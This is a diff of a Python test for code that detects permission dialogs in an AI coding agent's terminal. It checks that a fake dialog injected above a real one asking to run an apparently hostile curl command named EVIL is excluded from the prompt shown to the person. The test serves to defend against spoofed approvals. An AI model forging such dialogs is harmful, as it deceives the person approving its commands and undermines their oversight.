@@ -60,9 +60,9 @@ def test_a_fake_dialog_scrolled_above_the_last_lines_leaves_one_dialog() -> None
     real = dialog(EVIL, "echo installed", "echo done", description="Run the installer")
     found = classify(CLAUDE, [*AGENT, *FAKE, *real], NOW)
     assert found is not None and not found.ambiguous and found.questions == (4,)
-    # the fake's last options are still in the lines shown, above the real dialog's box
-    assert found.prompt.splitlines()[:2] == ["│ ❯ 1. Yes │", "│   2. Yes, and don't ask again "
-                                             "for ls commands in /home/dev/project │"]  # fmt: skip
+    # the person sees the real dialog from its box's top: not the fake's last options above
+    assert found.prompt.splitlines()[:2] == ["╭───╮", "│ Bash command │"]
+    assert "ls commands" not in found.prompt
     assert f"│   {EVIL} │" in found.prompt.splitlines()
     assert found.options[1].label.startswith("Yes, and don't ask again for curl commands")
 
